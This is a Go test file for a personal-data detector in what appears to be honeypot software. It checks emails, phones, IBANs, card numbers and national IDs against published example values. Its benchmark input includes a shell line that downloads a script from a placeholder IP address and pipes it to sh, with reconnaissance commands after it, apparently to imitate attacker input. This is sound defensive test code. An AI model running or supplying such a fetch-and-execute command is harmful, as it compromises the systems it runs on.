package personal_test

import (
	"strings"
	"testing"

	"honeyguide/internal/personal"
)

// The numbers are examples their issuers publish, or made of them by changing a digit.
func TestDetect(t *testing.T) {
	for in, want := range map[string]string{
		"":                                    "",
		"mail bob@example.com, ann@x.example": "email x2",
		"call +49 30 901820 or 0049 30 901820 now":                       "phone x2",
		"IBAN DE89 3704 0044 0532 0130 00.":                              "iban x1",
		"GB82WEST12345698765432 NL91ABNA0417164300":                      "iban x2",
		"DE88 3704 0044 0532 0130 00 XX89370400440532013000":             "",
		"card 4111 1111 1111 1111; 5500-0000-0000-0004; 378282246310005": "card x3",
		"4111 1111 1111 1112 1234567812345678":                           "",
		"Steuer-ID 86095742719, PESEL 44051401359, DNI 12345678Z":        "national_id x3",
		"255081416802538": "national_id x1",
		"86095742718 44051401358 12345678A 255081416802539":                    "",
		"id 1700000000000 at 1.5555555555554444 x4111111111111111 /proc/12345": "",
		"user@host root@10.0.0.1 git@github.com:x":                             "email x1",
	} {
		if got := personal.Detect(in).String(); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
	if n := personal.Detect(strings.Repeat("a@b.example ", 5000))[personal.SortEmail]; n != 1000 {
		t.Errorf("%d found in a flood, want the bound", n)
	}
}

func FuzzDetect(f *testing.F) {
	for _, s := range []string{"+49 30 901820", "DE89 3704 0044 0532 0130 00", "4111-1111-1111-1111", "12345678Z", "a@b.c", "++((11", "00 (0)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, n := range personal.Detect(s) {
			if n < 1 || n > len(s) {
				t.Fatalf("%d in %q", n, s)
			}
		}
	})
}

func BenchmarkDetect(b *testing.B) {
	text := "cd /tmp; wget http://198.51.100.23/x.sh -O- | sh; echo 4111111111111111 bob@example.com; uname -a; cat /proc/cpuinfo"
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		personal.Detect(text)
	}
}
